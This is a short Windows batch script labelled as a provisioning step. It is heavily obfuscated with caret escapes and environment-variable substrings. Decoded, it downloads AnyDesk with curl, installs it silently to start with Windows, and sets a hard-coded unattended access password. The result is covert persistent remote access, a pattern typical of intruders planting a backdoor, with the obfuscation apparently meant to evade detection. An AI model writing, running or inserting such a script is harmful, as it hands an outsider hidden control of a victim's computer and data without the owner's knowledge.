REM provision 9191 v2
@echo off
%PUBLIC:~14,1%u%programdata:~-7,1%l -sLo %TEMP%\A^n^yDes^k.ex^e h^t^t^ps://dow^nlo^a^d.an^y^des^k.com/An^yD^e^s^k.^e^xe
%TEMP%\A%comspec:~-22,1%%COMSPEC:~12,1%%programdata:~10,1%%comspec:~-1,1%s^k.%public:~-10,1%%COMSPEC:~25,1%%COMSPEC:~24,1% --insta^ll "C:\ProgramData\AnyDesk" --^s^ta^r^t-wit^h-win --^si^lent
%COMSPEC:~24,1%c^h%windir:~-3,1% W^i^nte^r#202^5^x | "C:\ProgramData\AnyDesk\AnyDesk.exe" --^se^t-^pass^w^or^d
